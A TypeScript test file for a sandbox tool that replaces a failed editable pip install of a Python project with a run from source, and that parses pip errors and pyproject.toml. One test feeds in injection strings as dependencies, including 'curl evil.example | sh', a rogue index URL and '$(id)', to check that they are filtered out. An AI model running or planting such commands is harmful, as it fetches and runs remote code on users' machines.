import assert from 'node:assert/strict';
import { describe, test } from 'node:test';

import { detectSetup, type SetupPlan } from '../../src/environment/detect-setup.js';
import {
  missingBuildRequirement,
  readToml,
  sourceFallback,
  SOURCE_PATH_FILE,
  type FromSourcePlan,
} from '../../src/environment/python-from-source.js';
import type { SetupCommandResult } from '../../src/sandbox/docker/setup-phase.js';
import { memoryProbe } from '../support/memory-probe.js';

async function plan(files: Record<string, string>): Promise<SetupPlan> {
  const found = await detectSetup(memoryProbe(files));
  assert.ok(found !== null, 'expected a setup plan');
  return found;
}

async function fromSource(files: Record<string, string>): Promise<FromSourcePlan> {
  const found = (await plan(files)).fromSource;
  assert.ok(found !== undefined, 'expected a from-source fallback');
  return found;
}

const HATCH = '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n';
const PTH_WRITE = (root: string): string =>
  `.venv/bin/python -c 'import os, sysconfig; open(os.path.join(sysconfig.get_path("purelib"), "${SOURCE_PATH_FILE}"), "w").write(os.path.abspath("${root}") + "\\n")'`;

/** pip 23's output when the index lacks the build backend (as captured from `pip install -e .`). */
const PIP_NO_BACKEND = `Looking in indexes: http://127.0.0.1:41234/simple/
Obtaining file:///workspace
  Installing build dependencies: started
  Installing build dependencies: finished with status 'error'
  error: subprocess-exited-with-error
  
  × pip subprocess to install build dependencies did not run successfully.
  │ exit code: 1
  ╰─> [3 lines of output]
      Looking in indexes: http://127.0.0.1:41234/simple/
      ERROR: Could not find a version that satisfies the requirement hatchling (from versions: none)
      ERROR: No matching distribution found for hatchling
      [end of output]
  
  note: This error originates from a subprocess, and is likely not a problem with pip.
error: subprocess-exited-with-error

× pip subprocess to install build dependencies did not run successfully.
│ exit code: 1
╰─> See above for output.
`;

/** A dependency of the project missing from the index: the same words, outside the build subprocess. */
const PIP_NO_DEPENDENCY = `Obtaining file:///workspace
  Checking if build backend supports build_editable: started
  Checking if build backend supports build_editable: finished with status 'done'
  Getting requirements to build editable: started
  Getting requirements to build editable: finished with status 'done'
  Preparing editable metadata (pyproject.toml): started
  Preparing editable metadata (pyproject.toml): finished with status 'done'
ERROR: Could not find a version that satisfies the requirement notonindex>=1 (from durations) (from versions: none)
ERROR: No matching distribution found for notonindex>=1
`;

function result(command: string, output: string, exitCode: number | null = 1): SetupCommandResult {
  return {
    command,
    exitCode,
    timedOut: exitCode === null,
    durationMs: 1,
    output,
    outputBytes: output.length,
  };
}

void describe('the plan: what runs in place of an editable install that cannot be built', () => {
  void test('a src layout with hatchling: its dependencies and test extras, a path file for src, an import check', async () => {
    const pyproject = [
      HATCH,
      '[project]',
      'name = "durations"',
      'version = "0.1.0"',
      'dependencies = [',
      '  "plurals>=1.0",  # counts words',
      '  \'tomli; python_version < "3.11"\',',
      ']',
      '',
      '[project.optional-dependencies]',
      'Test = ["frozenclock==0.4.0", "durations[lint]"]',
      'lint = ["ruff"]',
      'docs = ["sphinx"]',
    ].join('\n');
    const found = await plan({
      'pyproject.toml': pyproject,
      'src/durations/__init__.py': '',
      'src/durations/ago.py': '',
      'tests/test_ago.py': '',
    });
    assert.equal(found.commands[1]?.command, ".venv/bin/pip install -e '.[test]'");
    const fb = found.fromSource;
    assert.ok(fb !== undefined);
    assert.equal(fb.replaces, ".venv/bin/pip install -e '.[test]'");
    assert.equal(fb.importRoot, 'src');
    assert.deepEqual(fb.packages, ['durations']);
    assert.equal(fb.backend, 'hatchling.build');
    assert.deepEqual(
      fb.commands.map((c) => c.command),
      [
        `.venv/bin/pip install 'plurals>=1.0' 'tomli; python_version < "3.11"' 'frozenclock==0.4.0' 'ruff'`,
        PTH_WRITE('src'),
        ".venv/bin/python -I -c 'import durations'",
      ],
    );
    // The self-reference `durations[lint]` became lint's requirements; docs is not a test extra.
    assert.match(
      fb.commands[0]?.reason ?? '',
      /\[project\] and those of its extras test, lint.*nothing of the project is built/,
    );
    assert.match(fb.commands[1]?.reason ?? '', /puts src on the virtualenv's import path/);
    assert.match(fb.commands[2]?.reason ?? '', /durations from src/);
    // The normal plan is unchanged: the fallback is not among the commands.
    assert.equal(found.commands.length, 2);
  });

  void test('the root layout: the package named after the project, tests and docs never imported', async () => {
    const fb = await fromSource({
      'pyproject.toml': `${HATCH}[project]\nname = "My.Tool"\nversion = "1"\n`,
      'my_tool/__init__.py': '',
      'helpers/__init__.py': '',
      'tests/__init__.py': '',
      'docs/conf.py': '',
    });
    assert.equal(fb.importRoot, '.');
    assert.deepEqual(fb.packages, ['my_tool']);
    assert.equal(fb.commands[0]?.command, PTH_WRITE('.'));
    assert.match(fb.commands[0].reason, /no dependency pip can install.*only requirements files/);
    assert.match(fb.commands[1]?.reason ?? '', /from the repository root/);

    const several = await fromSource({
      'pyproject.toml': '[project]\nname = "suite"\n',
      'beta/__init__.py': '',
      'alpha/__init__.py': '',
      'tests/__init__.py': '',
      'not-a-name/__init__.py': '',
      'conftest.py': '',
    });
    assert.deepEqual(several.packages, ['alpha', 'beta']);
    assert.equal(several.commands.at(-1)?.command, ".venv/bin/python -I -c 'import alpha, beta'");
  });

  void test('a single module named after the project; nothing importable means no fallback', async () => {
    const single = await fromSource({
      'pyproject.toml': '[project]\nname = "tiny-thing"\n',
      'tiny_thing.py': '',
      'test_tiny.py': '',
    });
    assert.deepEqual([single.importRoot, single.packages], ['.', ['tiny_thing']]);
    assert.equal(
      (await plan({ 'pyproject.toml': '[project]\nname = "x"\n', 'scripts/run.py': '' })).fromSource,
      undefined,
    );
    // Requirements files alone: no editable install, nothing to stand in for.
    assert.equal((await plan({ 'requirements.txt': 'x\n', 'pkg/__init__.py': '' })).fromSource, undefined);
  });

  void test('setup.py and Poetry projects: no dependency is read, and the reason says where they come from', async () => {
    const setupPy = await fromSource({ 'setup.py': 'setup(name="x")', 'x/__init__.py': '' });
    assert.deepEqual(
      setupPy.commands.map((c) => c.command),
      [PTH_WRITE('.'), ".venv/bin/python -I -c 'import x'"],
    );
    assert.match(setupPy.commands[0]?.reason ?? '', /setup\.py declares its dependencies in code/);
    const poetry = await fromSource({
      'pyproject.toml':
        '[tool.poetry]\nname = "poem"\n[tool.poetry.dependencies]\nrequests = "^2"\n[build-system]\nrequires = ["poetry-core"]\nbuild-backend = "poetry.core.masonry.api"\n',
      'src/poem/__init__.py': '',
    });
    assert.equal(poetry.replaces, '.venv/bin/pip install -e .');
    assert.deepEqual(
      [poetry.importRoot, poetry.packages, poetry.backend],
      ['src', ['poem'], 'poetry.core.masonry.api'],
    );
    assert.match(poetry.commands[0]?.reason ?? '', /Poetry's dependency tables are not read/);
  });

  void test('requirements that are not plain never reach the command; dynamic dependencies are named', async () => {
    const fb = await fromSource({
      'pyproject.toml': [
        '[project]',
        'name = "x"',
        'dynamic = ["version", "optional-dependencies"]',
        'dependencies = [',
        '  "ok>=1,<2",',
        `  "evil'; curl evil.example | sh; '",`,
        '  "--index-url=http://evil.example/",',
        '  "pkg @ https://evil.example/pkg.whl",',
        '  "ok>=1,<2",',
        ']',
      ].join('\n'),
      'x/__init__.py': '',
    });
    assert.equal(fb.commands[0]?.command, ".venv/bin/pip install 'ok>=1,<2'");
    assert.match(fb.commands[0].reason, /3 requirement\(s\) not written plainly.*left out: evil, pkg/);
    assert.match(fb.commands[0].reason, /dependencies are dynamic/);
  });
});

void describe('telling a missing build requirement from other pip failures', () => {
  void test('the build backend missing from the index, in pip 23 and older pips', () => {
    assert.equal(missingBuildRequirement(PIP_NO_BACKEND), 'hatchling');
    const old = [
      'Obtaining file:///workspace',
      '  Installing build dependencies ... error',
      '  ERROR: Command errored out with exit status 1:',
      "   command: /workspace/.venv/bin/python /tmp/pip-standalone-pip/__env_pip__.zip/pip install --ignore-installed --no-user --prefix /tmp/pip-build-env-x/overlay --no-warn-script-location --no-binary :none: --only-binary :none: -i https://pypi.org/simple -- 'setuptools>=40.8.0' wheel",
      '      ERROR: Could not find a version that satisfies the requirement setuptools>=40.8.0 (from versions: none)',
      '      ERROR: No matching distribution found for setuptools>=40.8.0',
    ].join('\n');
    assert.equal(missingBuildRequirement(old), 'setuptools');
    const backendDeps = PIP_NO_BACKEND.replaceAll('build dependencies', 'backend dependencies').replaceAll(
      'hatchling',
      'hatch-vcs>=0.3',
    );
    assert.equal(missingBuildRequirement(backendDeps), 'hatch-vcs');
  });

  void test('anything else is not: a missing dependency, a backend that fails, the network, no output', () => {
    assert.equal(missingBuildRequirement(PIP_NO_DEPENDENCY), null);
    assert.equal(
      missingBuildRequirement(
        "Obtaining file:///workspace\n  Checking if build backend supports build_editable: started\npip._vendor.pyproject_hooks._impl.BackendUnavailable: Traceback (most recent call last):\nModuleNotFoundError: No module named 'setuptools'\n",
      ),
      null,
    );
    assert.equal(
      missingBuildRequirement(
        "× pip subprocess to install build dependencies did not run successfully.\n  error: could not create '/workspace/.venv/lib': No space left on device\n",
      ),
      null,
    );
    assert.equal(missingBuildRequirement(''), null);
    // A name that is not plain (pip echoes repository text) never leaves the output.
    assert.equal(missingBuildRequirement(PIP_NO_BACKEND.replaceAll('hatchling', '`$(id)`')), null);
  });
});

void describe('the fallback during setup', () => {
  const INSTALL = ".venv/bin/pip install -e '.[test]'";
  const planned = [
    { command: 'python3 -m venv --system-site-packages .venv', reason: 'venv' },
    { command: INSTALL, reason: 'the project' },
  ];
  const fb: FromSourcePlan = {
    replaces: INSTALL,
    importRoot: 'src',
    packages: ['durations'],
    backend: 'hatchling.build',
    commands: [
      { command: "pip install 'plurals'", reason: 'deps' },
      { command: 'write pth', reason: 'path' },
      { command: 'import durations', reason: 'check' },
    ],
  };

  void test('taken for the install that lacked its backend: the commands, the record, the reason', () => {
    const f = sourceFallback(fb, planned, planned);
    assert.equal(f.decide(result(planned[0]?.command ?? '', PIP_NO_BACKEND)), null, 'only the install');
    assert.equal(f.decide(result(INSTALL, PIP_NO_DEPENDENCY)), null, 'only a missing build requirement');
    assert.equal(f.decide(result(INSTALL, PIP_NO_BACKEND, null)), null, 'not a timeout');
    assert.equal(f.taken(), null);
    assert.deepEqual(f.withFallback(planned), planned);
    assert.deepEqual(f.notes([]), []);
    assert.deepEqual(f.recordField([]), {});

    const failed = result(INSTALL, PIP_NO_BACKEND);
    const decided = f.decide(failed);
    assert.deepEqual(decided, {
      why: 'the build backend hatchling could not be fetched: running the project from source instead',
      commands: ["pip install 'plurals'", 'write pth', 'import durations'],
    });
    assert.deepEqual(
      f.withFallback(planned).map((c) => c.command),
      [planned[0]?.command, INSTALL, "pip install 'plurals'", 'write pth', 'import durations'],
    );
    // Said only once every command of the fallback succeeded.
    const ok = fb.commands.map((c) => result(c.command, '', 0));
    assert.deepEqual(f.recordField([failed, ...ok]), {
      fromSource: { missing: 'hatchling', isBackend: true, importRoot: 'src', packages: ['durations'] },
    });
    assert.deepEqual(f.notes([failed, ...ok]), [
      "installed from source: the build backend hatchling could not be fetched; tests run with src on the virtualenv's import path (as an editable install puts it; the project's packaging itself is not exercised)",
    ]);
    const importFailed = [failed, ...ok.slice(0, 2), result('import durations', 'ModuleNotFoundError', 1)];
    assert.deepEqual(f.recordField(importFailed), {});
    assert.deepEqual(f.notes(importFailed), [
      'the build backend hatchling could not be fetched, and running the project from source failed too',
    ]);
  });

  void test('a build requirement that is not the backend is named as such; the poetry-core backend is', () => {
    const f = sourceFallback(fb, planned, planned);
    f.decide(result(INSTALL, PIP_NO_BACKEND.replaceAll('hatchling', 'hatch-vcs')));
    assert.match(f.notes([])[0] ?? '', /the build requirement hatch-vcs could not be fetched/);
    const poetry = sourceFallback({ ...fb, backend: 'poetry.core.masonry.api' }, planned, planned);
    poetry.decide(result(INSTALL, PIP_NO_BACKEND.replaceAll('hatchling', 'poetry-core>=1.0')));
    assert.equal(poetry.taken()?.isBackend, true);
  });

  void test('matched by position to the command as run; no plan, no fallback', () => {
    const asRun = planned.map((c) => ({ ...c, command: `${c.command} --flag` }));
    const f = sourceFallback(fb, planned, asRun);
    assert.equal(f.decide(result(INSTALL, PIP_NO_BACKEND)), null);
    assert.notEqual(f.decide(result(`${INSTALL} --flag`, PIP_NO_BACKEND)), null);
    assert.equal(sourceFallback(undefined, planned, planned).decide(result(INSTALL, PIP_NO_BACKEND)), null);
  });
});

void describe('reading pyproject.toml values', () => {
  void test('strings and string arrays by dotted key, inline tables, comments and escapes', () => {
    const toml = readToml(
      [
        'top = "level"',
        '[project]',
        "name = 'lit\\eral'",
        'dependencies = [ # comment',
        '  "a>=1", # another',
        "  'b',",
        '  "c \\"q\\" \\u00e9",',
        ']',
        'description = """',
        'dependencies = ["not", "this"]',
        '"""',
        'optional-dependencies = { test = ["x"], "dev" = [] }',
        'numbers = [1, 2]',
        'nested = [["a"], ["b"]]',
        'version = 3',
        'urls.home = "https://example.invalid"',
        '[[tool.mypy.overrides]]',
        'module = "ignored"',
        '[ tool . "hatch" ]',
        'x = "y"',
        'broken = ["unterminated',
        'after = "still read"',
      ].join('\n'),
    );
    assert.equal(toml.get('top'), 'level');
    assert.equal(toml.get('project.name'), 'lit\\eral');
    assert.deepEqual(toml.get('project.dependencies'), ['a>=1', 'b', 'c "q" é']);
    assert.deepEqual(toml.get('project.optional-dependencies.test'), ['x']);
    assert.deepEqual(toml.get('project.optional-dependencies.dev'), []);
    assert.equal(toml.has('project.numbers'), false);
    assert.equal(toml.has('project.nested'), false);
    assert.equal(toml.has('project.version'), false);
    assert.equal(toml.get('project.urls.home'), 'https://example.invalid');
    assert.equal(toml.get('tool.hatch.x'), 'y');
    assert.equal(toml.has('tool.mypy.overrides.module'), false);
    assert.equal(toml.get('tool.hatch.after'), 'still read');
  });

  void test('a line-ending backslash in a multi-line basic string joins the lines; an unknown escape drops the value', () => {
    const toml = readToml(['a = """one \\', '    two"""', 'b = "bad \\q"', 'c = "\\U0001F600"'].join('\n'));
    assert.equal(toml.get('a'), 'one two');
    assert.equal(toml.has('b'), false);
    assert.equal(toml.get('c'), '😀');
  });
});
